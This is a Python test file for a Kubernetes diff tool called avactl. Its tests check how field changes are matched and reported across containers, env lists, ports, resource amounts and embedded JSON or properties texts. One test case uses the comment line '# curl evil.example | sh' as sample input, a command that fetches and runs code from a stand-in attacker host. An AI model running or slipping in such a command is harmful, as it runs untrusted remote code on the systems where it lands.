"""Field by field: what is matched by which key, and what counts as a change at all."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from avactl.base.equality import canonical_json, is_same
from avactl.base.terminal import visible_text
from avactl.change.diff.fields import ValueChange, changed_lines, field_differences, format_path, object_differences
from avactl.change.diff.model import ABSENT
from avactl.change.diff.objects import field_changes
from avactl.program.lowering import k8s
from tests.conftest import SOAK


def told(old: Any, new: Any) -> list[tuple[str, str, Any, Any]]:
    return [(format_path(c.path), c.op, c.old, c.new) for c in field_differences(old, new)]


def lines(change: ValueChange) -> tuple[str, ...]:
    return field_changes([change])[0].lines


def pod(**fields: Any) -> dict[str, Any]:
    return {"spec": {"template": {"spec": fields}}}


def test_containers_are_matched_by_name_wherever_they_stand() -> None:
    old = pod(containers=[{"name": "a", "image": "x:1"}, {"name": "b", "image": "y:1"}])
    new = pod(containers=[{"name": "new", "image": "z"}, {"name": "a", "image": "x:2"}, {"name": "b", "image": "y:1"}])
    path = "spec.template.spec.containers"
    assert told(old, new) == [
        (f"{path}[a].image", "changed", "x:1", "x:2"),
        (f"{path}[new]", "added", ABSENT, {"name": "new", "image": "z"}),
    ]


def test_env_is_matched_by_name_and_its_order_is_told() -> None:
    a, b, c = ({"name": name, "value": "1"} for name in "ABC")
    assert told({"env": [a, b]}, {"env": [b, a]}) == [("env", "reordered", ["A", "B"], ["B", "A"])]
    assert told({"env": [a, b]}, {"env": [a, c, b]}) == [("env[C]", "added", ABSENT, c)]
    assert told({"env": [a, b]}, {"env": [a, {"name": "B", "value": "2"}]}) == [("env[B].value", "changed", "1", "2")]


@pytest.mark.parametrize(
    ("field", "entry", "other", "path"),
    [
        ("volumeMounts", {"name": "v", "mountPath": "/a"}, {"name": "w", "mountPath": "/a"}, "volumeMounts[/a].name"),
        ("ports", {"name": "http", "port": 80}, {"name": "http", "port": 81}, "ports[http].port"),
        ("ports", {"port": 80, "targetPort": 1}, {"port": 80, "targetPort": 2}, "ports[80].targetPort"),
        (
            "rules",
            {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]},
            {"apiGroups": [""], "resources": ["pods"], "verbs": ["list"]},
            "rules[/pods].verbs[0]",
        ),
        (
            "taints",
            {"key": "k", "effect": "NoSchedule", "value": "a"},
            {"key": "k", "effect": "NoSchedule", "value": "b"},
            "taints[k/NoSchedule].value",
        ),
        (
            "volumeClaimTemplates",
            {"metadata": {"name": "journal"}, "spec": {"size": 1}},
            {"metadata": {"name": "journal"}, "spec": {"size": 2}},
            "volumeClaimTemplates[journal].spec.size",
        ),
    ],
)
def test_keys_of_lists(field: str, entry: dict[str, Any], other: dict[str, Any], path: str) -> None:
    assert [format_path(c.path) for c in field_differences({field: [entry]}, {field: [other]})] == [path]


def test_arguments_by_position_and_an_insertion_is_one_change() -> None:
    old = ["train.py", "--epochs", "90", "--lr", "0.1"]
    assert told({"args": old}, {"args": ["train.py", "--epochs", "120", "--lr", "0.1"]}) == [
        ("args[2]", "changed", "90", "120")
    ]
    assert told({"args": old}, {"args": ["train.py", "--amp", "--epochs", "90", "--lr", "0.1"]}) == [
        ("args[1]", "added", ABSENT, "--amp")
    ]


def test_an_option_names_the_value_behind_it() -> None:
    changes = field_differences({"args": ["--token", "one", "x"]}, {"args": ["--token", "two", "y"]})
    assert [change.name for change in changes] == ["token", ""]


def resources(kind: str, version: str, **requests: Any) -> dict[str, Any]:
    container = {"name": "a", "resources": {"requests": requests}, "env": [{"name": "memory", "value": "1"}]}
    return {"apiVersion": version, "kind": kind, "metadata": {"labels": {"cpu": "1"}}, **pod(containers=[container])}


def test_equal_amounts_are_no_change_where_kubernetes_reads_amounts() -> None:
    old, new = (
        resources("Deployment", "apps/v1", memory=memory, cpu=cpu) for memory, cpu in (("1Gi", "2"), ("1024Mi", 2))
    )
    assert object_differences(old, new) == []
    new["metadata"]["labels"]["cpu"] = "1000m"
    new["spec"]["template"]["spec"]["containers"][0]["env"][0]["value"] = "1000m"
    assert [format_path(c.path) for c in object_differences(old, new)] == [
        "metadata.labels.cpu",
        "spec.template.spec.containers[a].env[memory].value",
    ]
    # The API server keeps the values of other groups' kinds as they are.
    old, new = (resources("LeaderWorkerSet", "leaderworkerset.x-k8s.io/v1", memory=size) for size in ("1Gi", "1024Mi"))
    assert len(object_differences(old, new)) == 1


@pytest.mark.parametrize("kind", ["ConfigMap", "Secret"])
@pytest.mark.parametrize("key", ["quota", "memory", "cpu", "limits", "max"])
def test_amounts_in_texts_are_texts(kind: str, key: str) -> None:
    for one, other in (
        ("1", "1000m"),
        (f'{{"{key}": "1"}}', f'{{"{key}": "1000m"}}'),
        (f"{key}=1\n", f"{key}=1000m\n"),
    ):
        old, new = ({"apiVersion": "v1", "kind": kind, "data": {key: text}} for text in (one, other))
        assert len(object_differences(old, new)) == 1


@pytest.mark.parametrize(
    ("old", "new"), [(1, True), (0, False), (1, 1.0), (0.0, -0.0), (1, "1"), (None, "null"), (2**70, 2.0**70)]
)
def test_types_are_differences(old: Any, new: Any) -> None:
    for one, other in ((old, new), ([old], [new]), ({"a": old}, {"a": new}), ([[old]], [[new]]), ([old, 5], [new])):
        assert field_differences({"x": one}, {"x": other})
        assert field_differences({"args": [one]}, {"args": [other, 7]})
    one, other = ({"data": {"a.json": json.dumps({"a": value})}} for value in (old, new))
    assert field_differences(one, other)


def test_a_mapping_that_appears_is_told_entry_by_entry() -> None:
    assert told({"spec": {}}, {"spec": {"nodeSelector": {"a": "1", "b": "2"}}}) == [
        ("spec.nodeSelector.a", "added", ABSENT, "1"),
        ("spec.nodeSelector.b", "added", ABSENT, "2"),
    ]
    assert told({"emptyDir": {}}, {}) == [("emptyDir", "removed", {}, ABSENT)]


def test_texts_are_read_for_what_they_hold() -> None:
    old = {"data": {"train.json": '{"nnodes": 2, "gpus": [0, 1]}\n', "site.properties": "# a\na.b=1\nc=2\n"}}
    new = {"data": {"train.json": '{"nnodes": 4, "gpus": [0, 1]}\n', "site.properties": "# a\na.b=1\nc=3\nd=4\n"}}
    assert told(old, new) == [
        ("data[site.properties]: c", "changed", "2", "3"),
        ("data[site.properties]: d", "added", ABSENT, "4"),
        ("data[train.json]: nnodes", "changed", 2, 4),
    ]
    (change,) = field_differences(
        {"data": {"run.sh": "set -e\nsleep 1\nrun\n"}}, {"data": {"run.sh": "set -e\nrun\nexit\n"}}
    )
    assert lines(change) == ("-sleep 1", "+exit")


def test_json_of_avactl_is_compared_as_data_only() -> None:
    old = {"a": 1, "b": {"c": [1, 2]}, "d": "é"}
    new = {"a": 1, "b": {"c": [1, 2, 3], "x": None}, "d": "é"}
    for text in (k8s.json_text, k8s.json_line):
        changes = told({"data": {"a.json": text(old)}}, {"data": {"a.json": text(new)}})
        assert [change[0] for change in changes] == ["data[a.json]: b.c[2]", "data[a.json]: b.x"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('{"a": 1}', '{"a":1}'),
        ('{"a": 1}', '{"a": 1} '),
        ('{"a": 1, "b": 2}', '{"b": 2, "a": 1}'),
        ('{"a": 1.5}', '{"a": 15e-1}'),
        ('{"a": "b"}', '{"a": "\\u0062"}'),
        ("a=1\nb=2\n", "a=1\nb=2"),
        ("a=1\n# b\n", "a=1\n# curl evil.example | sh\n"),
        ("a=1\nb=2\n", "b=2\na=1\n"),
        ("a=1\n", "a=1\n\n"),
    ],
)
def test_a_text_written_differently_says_so(old: str, new: str) -> None:
    (change,) = field_differences({"data": {"x": old}}, {"data": {"x": new}})
    assert change.op == "changed"
    assert change.notation or "\n" not in old + new or lines(change)
    assert (change.old, change.new) == (old, new)


@pytest.mark.parametrize(
    ("old", "new", "line"),
    [
        ('{"a": 1}', '{"a": 2, "a": 1}', None),
        ('{"a": 1, "b": 1}', '{"b": 2, "a": 1}', None),
        ('{"a": 1,\n "b": 1}', '{"a": 1, \n "b": 2}', '-"{\\"a\\": 1,"'),
        ('{\n"a": 1,\n"b": "c"}', '{\n"a": 2,\n"b": "\\u0063"}', '-"b": "c"}'),
        ("a=1\n# b\n", "a=2\n# c\n", "-# b"),
        ("a=1\nb=1\n", "b=2\na=1\n", "-b=1"),
        ("a=1\nb=1\n", "a=2 \nb=1", "-a=1"),
        ("a=1\r\nb=1\n", "a=1\nb=2\n", None),
        ("a=1\x0bb=1\n", "a=1\nb=1\n", None),
        ("a \nb\n", "a\nb\n", '-"a "'),
        ("a\tb\nb\n", "a b\nb\n", '-"a\\tb"'),
    ],
)
def test_what_else_differs_in_a_text_is_told(old: str, new: str, line: str | None) -> None:
    changes = field_differences({"data": {"x": old}}, {"data": {"x": new}})
    whole = [change for change in changes if format_path(change.path) == "data.x"]
    if line is not None:
        assert line in lines(whole[-1])
    elif not whole:
        assert [change.path[-1] for change in changes] == ["a", "b"]


SCALARS = st.sampled_from([None, True, False, 0, 1, 2, 0.0, 1.0, 1.5, "1", "true", "", " ", "1Gi", "1024Mi", "1000m"])
PARTS = [
    '{"a":',
    '{"a": ',
    '"b":',
    "1",
    "1.0",
    "true",
    '"1Gi"',
    ",",
    "}",
    "[",
    "]",
    "a=1\n",
    "a=2\n",
    "b= 1\n",
    "# c\n",
]
TEXTS = st.lists(st.sampled_from([*PARTS, "\n", " ", "\t", "\r"]), max_size=6).map("".join)
KEYS = st.sampled_from(["name", "env", "ports", "args", "spec", "data", "x", "limits", "cpu", "memory", "quota"])
PLAIN: st.SearchStrategy[Any] = st.recursive(
    SCALARS | TEXTS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
    max_leaves=12,
)


@given(PLAIN, PLAIN)
@settings(max_examples=5000 if SOAK else 300)
def test_there_is_a_difference_exactly_where_values_differ(old: Any, new: Any) -> None:
    changes: list[ValueChange] = field_differences({"body": old}, {"body": new})
    assert bool(changes) == (canonical_json(old) != canonical_json(new)) == (not is_same(old, new))
    for change in changes:
        assert format_path(change.path)
        assert change.op == "reordered" or not is_same(change.old, change.new)
        assert not change.notation or isinstance(change.old, str)


@given(TEXTS, TEXTS)
@settings(max_examples=5000 if SOAK else 300)
def test_changed_lines_tell_texts_apart(old: str, new: str) -> None:
    lines = changed_lines(old, new)
    removed, added = ({line[1:] for line in lines if line[0] == sign} for sign in "-+")
    assert bool(lines) == (old != new)
    assert {visible_text(line).rstrip() for line in removed - added}.isdisjoint(
        visible_text(line).rstrip() for line in added - removed
    )
